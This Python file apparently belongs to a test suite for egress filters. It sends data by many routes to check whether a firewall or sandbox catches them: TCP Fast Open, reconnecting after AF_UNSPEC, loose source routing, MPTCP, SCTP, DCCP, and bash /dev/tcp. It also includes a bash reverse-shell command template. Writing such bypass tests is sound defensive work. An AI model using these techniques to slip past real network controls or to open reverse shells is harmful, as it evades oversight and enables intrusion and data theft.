# SPDX-License-Identifier: MIT
"""TCP, in all the ways to open it."""

from __future__ import annotations

import ctypes
import errno
import os
import socket
import subprocess

from bypass.case import TCP_PORT, Parcel, benign, case, case6

# <linux/in.h>, <linux/tcp.h>, <linux/socket.h>
_MPTCP = 262
_FASTOPEN_CONNECT, _FASTOPEN_NO_COOKIE = 30, 34
_MSG_FASTOPEN = 0x20000000
_PATIENCE_S = 10
_tcp = {"port": TCP_PORT, "protocol": "tcp", "rule": "tcp://{friend}:{port}"}
_other = {**_tcp, "protocol": "other"}
_tcp6 = {**_tcp, "rule": "tcp://[{friend}]:{port}"}


def finish(connection: socket.socket, data: bytes = b"") -> None:
    """Send, close this side, and wait for the other to do so: any error shows until then."""
    connection.settimeout(_PATIENCE_S)
    if data:
        connection.sendall(data)
    connection.shutdown(socket.SHUT_WR)
    while connection.recv(4096):
        pass
    connection.close()


def _made(family: int = socket.AF_INET, protocol: int = 0) -> socket.socket:
    made = socket.socket(family, socket.SOCK_STREAM, protocol)
    made.settimeout(_PATIENCE_S)
    return made


@case("tcp", **_tcp)
def connect(parcel: Parcel) -> None:
    """The plain way."""
    connection = _made()
    connection.connect((parcel.to, parcel.port))
    finish(connection, parcel.data)


@case6("tcp6", **_tcp6)
def connect6(parcel: Parcel) -> None:
    """Over IPv6."""
    connection = _made(socket.AF_INET6)
    connection.connect((parcel.to, parcel.port))
    finish(connection, parcel.data)


@case("tcp-v4-mapped", **_tcp)
def connect_mapped(parcel: Parcel) -> None:
    """An IPv4 address out of an IPv6 socket."""
    connection = _made(socket.AF_INET6)
    connection.connect((f"::ffff:{parcel.to}", parcel.port))
    finish(connection, parcel.data)


@case("tcp-fastopen", **_tcp)
def fast_open(parcel: Parcel) -> None:
    """Data in the SYN, no connect(2)."""
    connection = _made()
    connection.setsockopt(socket.IPPROTO_TCP, _FASTOPEN_NO_COOKIE, 1)
    connection.sendto(parcel.data, _MSG_FASTOPEN, (parcel.to, parcel.port))
    finish(connection)


@case("tcp-fastopen-connect", **_tcp)
def fast_open_connect(parcel: Parcel) -> None:
    """A connect(2) that sends nothing until there is data."""
    connection = _made()
    connection.setsockopt(socket.IPPROTO_TCP, _FASTOPEN_NO_COOKIE, 1)
    connection.setsockopt(socket.IPPROTO_TCP, _FASTOPEN_CONNECT, 1)
    connection.connect((parcel.to, parcel.port))
    finish(connection, parcel.data)


@case("tcp-reconnect", detour=True, **_tcp)
def reconnect(parcel: Parcel) -> None:
    """A socket that was allowed once, dissolved and connected anew (connect(2), AF_UNSPEC)."""
    connection = _made()
    connection.connect((parcel.friend, parcel.port))
    dissolve(connection)
    connection.connect((parcel.to, parcel.port))
    finish(connection, parcel.data)


@case("tcp-source-route", detour=True, at_socket=True, twin="tcp", **_tcp)
def source_route(parcel: Parcel) -> None:
    """Addressed to a friend, by way of the thief (RFC 791, loose source route); data in the SYN."""
    connection = _made()
    route = bytes([1, 0x83, 7, 4]) + socket.inet_aton(parcel.to)  # no-op, LSRR, length, pointer
    connection.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, route)
    connection.setsockopt(socket.IPPROTO_TCP, _FASTOPEN_NO_COOKIE, 1)
    connection.settimeout(0.3)  # nobody forwards it
    connection.sendto(parcel.data, _MSG_FASTOPEN, (parcel.friend, parcel.port))
    finish(connection)


@case(
    "mptcp",
    twin="mptcp-or-tcp",
    at_socket=True,
    errors=("EPROTONOSUPPORT",),
    unheard=("EPROTONOSUPPORT",),
    audited=False,
    **_tcp,
)
def multipath(parcel: Parcel) -> None:
    """Multipath TCP: further subflows go wherever the peer says."""
    connection = _made(protocol=_MPTCP)
    connection.connect((parcel.to, parcel.port))
    finish(connection, parcel.data)


@benign("mptcp-or-tcp")
def multipath_or_plain(parcel: Parcel) -> None:
    """As Go's net package does it: multipath if it can be had, else TCP."""
    try:
        multipath(parcel)
    except OSError:
        connect(parcel)


@case("sctp", twin="tcp", at_socket=True, **_other, absent="EPROTONOSUPPORT")
def sctp(parcel: Parcel) -> None:
    """SCTP, one-to-one."""
    connection = _made(protocol=socket.IPPROTO_SCTP)
    connection.connect((parcel.to, parcel.port))
    finish(connection, parcel.data)


@case("dccp", twin="tcp", at_socket=True, **_other, absent="ESOCKTNOSUPPORT")
def dccp(parcel: Parcel) -> None:
    """DCCP: gone from Linux 6.16 on."""
    connection = socket.socket(socket.AF_INET, 6, 33)  # SOCK_DCCP, IPPROTO_DCCP
    connection.connect((parcel.to, parcel.port))
    finish(connection, parcel.data)


@case("bash-dev-tcp", **_tcp)
def bash_tcp(parcel: Parcel) -> None:
    """What the shell itself connects."""
    _bash(f"exec 3<>/dev/tcp/{parcel.to}/{parcel.port} && printf %s {parcel.data.decode()} >&3")


@case("bash-dev-udp")
def bash_udp(parcel: Parcel) -> None:
    """A datagram by the shell."""
    _bash(f"printf %s {parcel.data.decode()} >/dev/udp/{parcel.to}/{parcel.port}")


@case("reverse-shell", **_tcp)
def reverse_shell(parcel: Parcel) -> None:
    """A shell whose output is the connection."""
    _bash(
        f"exec 3<>/dev/tcp/{parcel.to}/{parcel.port} && "
        f"echo 'echo {parcel.data.decode()}' | bash -s >&3 2>&3"
    )


def _bash(script: str) -> None:
    done = subprocess.run(["bash", "-c", script], capture_output=True, text=True)
    if done.returncode:
        known = {os.strerror(number): number for number in errno.errorcode}
        number = next((known[text] for text in known if text in done.stderr), 0)
        raise OSError(number, done.stderr)


def dissolve(connection: socket.socket) -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.connect(connection.fileno(), bytes(16), 16):  # AF_UNSPEC is 0
        raise OSError(ctypes.get_errno(), "connect(AF_UNSPEC)")
